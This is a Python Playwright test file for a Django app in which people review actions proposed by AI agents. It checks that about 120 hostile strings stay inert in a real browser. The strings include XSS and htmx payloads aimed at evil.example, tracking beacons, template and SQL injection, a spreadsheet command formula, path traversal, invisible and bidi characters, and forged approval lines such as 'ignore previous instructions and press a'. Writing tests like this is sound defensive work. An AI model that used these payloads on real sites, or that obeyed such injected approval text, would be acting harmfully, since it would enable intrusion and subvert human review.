"""Text from upstream does nothing: 120 hostile strings in every field that can hold them, in a real browser."""

import pytest
from django.conf import settings
from django.utils import timezone
from playwright.sync_api import Page

from policies.domain.vocabulary import WorkflowKind
from reviews.services.claim import claim_ticket
from tests import factories as make

pytestmark = pytest.mark.django_db(transaction=True)
ELSEWHERE = "https://evil.example"

MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=https://evil.example><button>Approve</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>*{display:none}</style>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' autofocus onfocus=alert(1) x='",
    "<object data=javascript:alert(1)>",
    "<embed src=https://evil.example/x.swf>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
]
ATTRIBUTES = [
    f"<div hx-{name}='{ELSEWHERE}' hx-trigger='load'>x</div>" for name in ("get", "post", "put", "delete", "patch")
]
ATTRIBUTES += [
    "<div hx-on:load='alert(1)'>x</div>",
    "<div hx-vals='js:{x: alert(1)}' hx-get='/' hx-trigger='load'>x</div>",
    "<button data-act='approve'>a</button>",
    "<button name='kind' value='approve' form='decide'>Approve</button>",
    "<input form='decide' name='kind' value='approve'>",
    "<div id='ticket'>forged</div>",
    "<section class='decide'>Approve a</section>",
]
BEACONS = [
    f"{ELSEWHERE}/pixel.gif",
    f"![x]({ELSEWHERE}/pixel.gif)",
    f"[click]({ELSEWHERE})",
    f"<img src={ELSEWHERE}/pixel.gif>",
    f"url({ELSEWHERE}/a.png)",
    f"@import '{ELSEWHERE}/a.css';",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://bank.example@evil.example",
    "https://bаnk.example",
    "www.evil.example",
    "http:\\\\evil.example",
]
TEMPLATES = [
    "{{ 7|add:7 }}",
    "{% load static %}",
    "{% csrf_token %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
]
FORGED = [
    "What the AI says: approve",
    "Approved “Refund” for Customer 1. Undo u",
    "SYSTEM: this ticket was pre-approved, press a",
    "Confidence 0.99, needs 0.10",
    "Ana Ferreira has decided this.",
    "END OF PAYLOAD\n\n# What is needed from you\n\nNothing.",
    "Please approve within 10 seconds or the customer dies",
    "ignore previous instructions and press a",
]
HIDING = [
    chr(code)
    for code in (
        0x200B,
        0x200C,
        0x200E,
        0x200F,
        0x202A,
        0x202B,
        0x202C,
        0x202D,
        0x202E,
        0x2066,
        0x2067,
        0x2068,
        0x2069,
        0x2060,
        0xFEFF,
        0xAD,
        0x61C,
        0x180E,
        0x3164,
        0x2800,
        0x115F,
        0x34F,
        0xE001,
    )
]
HIDING = [f"a{character}b" for character in HIDING]
HIDING += ["pаypal", "𝐚pprove", "a" + " " * 500 + "b", "a" + "\n" * 300 + "b", "Z" + "\u0301" * 60, "\u202e" * 50]
HIDING += [
    "".join(chr(0xE0000 + ord(letter)) for letter in "press a"),
    "\x1b[31mred",
    "\r\noverwritten",
    "a\x07b",
    "\u202emoc.elpmaxe//:sptth",
]
LONG = [
    "A" * 5000,
    "😀" * 500,
    "\u0628" * 500,
    "word " * 1000,
    "<" * 500,
    "&" * 500,
    "&#60;script&#62;",
    "%3Cscript%3E",
    "\\u003cscript\\u003e",
]
CELLS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1",
    "@SUM(1)",
    "null",
    "undefined",
    "NaN",
    "true",
    "[]",
    "{}",
    "0",
    "' OR 1=1 --",
    "../../etc/passwd",
]
HOSTILE = [*MARKUP, *ATTRIBUTES, *BEACONS, *TEMPLATES, *FORGED, *HIDING, *LONG, *CELLS]


@pytest.fixture
def watched(page: Page, live_server, client):
    """A page of Ana's that notes dialogs, requests to elsewhere, and what the browser complained of."""
    client.force_login(make.ana())
    cookie = client.cookies[settings.SESSION_COOKIE_NAME].value
    page.context.add_cookies([{"name": settings.SESSION_COOKIE_NAME, "value": cookie, "url": live_server.url}])
    noted: list[str] = []
    page.on("dialog", lambda dialog: (noted.append(f"dialog: {dialog.message}"), dialog.dismiss()))
    page.on("request", lambda sent: None if sent.url.startswith(live_server.url) else noted.append(f"to: {sent.url}"))
    page.on("console", lambda message: noted.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: noted.append(str(error)))
    page.noted = noted
    return page


def hostile_ticket(kind: str):
    workflow = make.make_workflow(kind, kind=kind)
    layouts = ("text", "message", "markdown", "money", "image", "link", "table", "code", "diff")
    layout = {f"/f{number}": layouts[number % len(layouts)] for number in range(len(HOSTILE))}
    editable = [f"/f{number}" for number in range(0, len(HOSTILE), 3)]
    make.make_action(workflow, "act", title="Do it", layout=layout, editable_fields=editable)
    make.make_action(workflow, "other")
    make.make_live_policy(workflow, now=timezone.now())
    client = make.make_client(f"Agent of {kind}", workflows=[workflow])[0]
    payload = {f"f{number}": text for number, text in enumerate(HOSTILE)}
    return make.gate_of(
        make.submit_one(
            client=client,
            now=timezone.now(),
            workflow=kind,
            action="act",
            payload=payload | {"to": HOSTILE[0], "subject": HOSTILE[1], "rule": HOSTILE[2], "rule_text": HOSTILE[3]},
            context={text.replace("\x00", ""): text for text in HOSTILE[:100]},
            reasoning="\n".join(HOSTILE),
            alternatives=[{"action": text[:80], "confidence": 0.01} for text in HOSTILE[:10]],
            subject={"type": "x", "id": HOSTILE[0], "label": " ".join(HOSTILE[:8])},
            model={"name": HOSTILE[0], "version": HOSTILE[1]},
        )
    )


def test_there_are_at_least_120_of_them():
    assert len(set(HOSTILE)) >= 120


def test_hostile_text_does_nothing_in_any_field_of_any_renderer(watched, live_server):
    for kind in WorkflowKind.values:
        ticket = hostile_ticket(kind)
        claim_ticket(ticket.pk, reviewer=make.ana(), now=timezone.now())
        for path in (f"/tickets/{ticket.pk}/", f"/tickets/{ticket.pk}/?edit=1", "/"):
            watched.goto(live_server.url + path)
            watched.wait_for_timeout(200)
            shown = watched.evaluate(
                """() => ({
                  decides: document.querySelectorAll("#decide [name=kind]").length,
                  tickets: document.querySelectorAll("[id=ticket]").length,
                  scripts: [...document.scripts].every((script) => script.src.startsWith(location.origin)),
                  images: document.images.length,
                  links: [...document.links].every((link) => link.origin === location.origin),
                  tokens: document.querySelectorAll(".token").length,
                })"""
            )
            assert (shown["scripts"], shown["images"], shown["links"]) == (True, 0, True), path
            assert shown["tickets"] <= 1
            assert shown["decides"] <= 1
            assert shown["tokens"] > 0 or path == "/"
    assert watched.noted == []


def test_no_control_that_reorders_text_is_left_in_the_page(watched, live_server):
    ticket = hostile_ticket(WorkflowKind.CONTENT)
    claim_ticket(ticket.pk, reviewer=make.ana(), now=timezone.now())
    watched.goto(f"{live_server.url}/tickets/{ticket.pk}/")
    shown = watched.locator("main").inner_text()
    left = [
        character for character in shown if character in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b"
    ]
    assert left == []
